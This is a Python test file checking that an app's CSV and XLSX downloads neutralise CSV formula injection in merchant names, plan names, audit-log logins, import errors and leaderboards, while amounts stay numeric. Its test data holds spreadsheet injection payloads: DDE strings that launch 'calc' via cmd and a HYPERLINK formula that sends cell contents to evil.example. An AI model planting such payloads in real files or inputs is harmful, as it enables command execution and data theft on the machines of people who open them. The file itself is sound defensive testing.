"""What the download buttons hand over: names a user typed that a spreadsheet would run as
formulas come out neutralised in the CSV and the XLSX, and amounts stay numbers."""

import csv
import io
from datetime import timedelta

from openpyxl import load_workbook
from sqlmodel import Session, select

from core.campaigns.approvals import submit_plan
from core.campaigns.plans import save_draft
from core.metrics.importing import import_metrics
from core.platform.auth import login
from core.platform.clock import shanghai_today
from db.engine import get_engine
from db.models import OrgUnit, Role
from tests.factories import complete_design, make_merchant, make_stages, metrics_csv

EVIL_LOGIN = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def csv_column(data: bytes, header: str) -> list[str]:
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    return [row[header] for row in rows]


def xlsx_column(data: bytes, header: str) -> list:
    sheet = load_workbook(io.BytesIO(data)).active
    rows = list(sheet.iter_rows())
    index = [c.value for c in rows[0]].index(header)
    return [row[index] for row in rows[1:]]


def assert_neutralised(downloads: dict[str, bytes], stem: str, header: str, text: str) -> None:
    assert "'" + text in csv_column(downloads[f"{stem}.csv"], header)
    cells = [c for c in xlsx_column(downloads[f"{stem}.xlsx"], header) if c.value == "'" + text]
    assert cells and all(c.data_type == "s" for c in cells)  # a string, never a formula


def test_merchant_list_download(app_for, world, sqlite_url, downloads) -> None:
    with Session(get_engine(sqlite_url)) as session:
        make_merchant(session, "C1", "+cmd|' /C calc'!A0")
    at = app_for(Role.CITY_PLANNER).run()
    at.switch_page("pages/merchants.py").run()
    assert not at.exception
    assert_neutralised(downloads, "联盟商户", "商户", "+cmd|' /C calc'!A0")


def test_plan_list_download(app_for, world, sqlite_url, downloads) -> None:
    planner = world[1][Role.CITY_PLANNER]
    with Session(get_engine(sqlite_url)) as session:
        make_stages(session, ["reviewer"])
        design = complete_design(session, name='=HYPERLINK("http://evil.example","点我")')
        submit_plan(
            session, actor=planner, campaign_id=save_draft(session, actor=planner, design=design).id
        )
    at = app_for(Role.PROVINCE_REVIEWER).run()
    at.switch_page("pages/plans.py").run()
    assert not at.exception
    assert_neutralised(downloads, "活动方案", "活动", '=HYPERLINK("http://evil.example","点我")')


def test_audit_log_download_of_a_failed_login(app_for, world, sqlite_url, downloads) -> None:
    with Session(get_engine(sqlite_url)) as session:
        assert login(session, EVIL_LOGIN, "guess").token is None
    at = app_for(Role.ADMIN).run()
    at.switch_page("pages/audit_log.py").run()
    assert not at.exception
    stem = next(name for name in downloads if name.startswith("审计日志")).removesuffix(".csv")
    stem = stem.removesuffix(".xlsx")
    assert_neutralised(downloads, stem, "操作人", EVIL_LOGIN)


def test_import_problems_download(app_for, world, downloads) -> None:
    at = app_for(Role.ADMIN).run()
    at.switch_page("pages/data_import.py").run()
    bad = metrics_csv([(shanghai_today() - timedelta(days=1), "@SUM(1+1)", 1, 1, 1, 1, 1, 1)])
    at.file_uploader(key="metrics_upload").upload("bad.csv", bad, "text/csv").run()
    at.button(key="metrics_submit").click().run()
    assert not at.exception and "文件未导入" in at.error[0].value
    values = csv_column(downloads["导入问题清单.csv"], "内容")
    assert values == ["'@SUM(1+1)"]
    assert downloads["网点日报模板.csv"].startswith(b"\xef\xbb\xbf")  # the blank template


def test_leaderboard_download_keeps_names_safe_and_amounts_numeric(
    app_for, world, sqlite_url, downloads
) -> None:
    day = shanghai_today() - timedelta(days=1)
    with Session(get_engine(sqlite_url)) as session:
        outlet = session.exec(select(OrgUnit).where(OrgUnit.code == "O211")).one()
        outlet.name = "-2+3+cmd|' /C calc'!A0"  # renamed by an org import
        session.commit()
        data = metrics_csv([(day, "O211", 1, 1, 1, 1, 1, "-1,234.50")])
        assert import_metrics(session, actor=world[1][Role.ADMIN], data=data, filename="m.csv").ok
    at = app_for(Role.PROVINCE_REVIEWER).run()
    at.switch_page("pages/leaderboard.py").run()
    at.segmented_control(key="board_metric").set_value("deposits").run()
    assert not at.exception
    stem = next(n for n in downloads if n.startswith("网点排行_新增存款")).removesuffix(".csv")
    stem = stem.removesuffix(".xlsx")
    assert_neutralised(downloads, stem, "网点", "-2+3+cmd|' /C calc'!A0")
    amounts = xlsx_column(downloads[f"{stem}.xlsx"], "新增存款(元)")
    assert [c.value for c in amounts if c.value] == [-1234.5]
    assert all(c.data_type == "n" for c in amounts)
    assert "-1234.50" in csv_column(downloads[f"{stem}.csv"], "新增存款(元)")
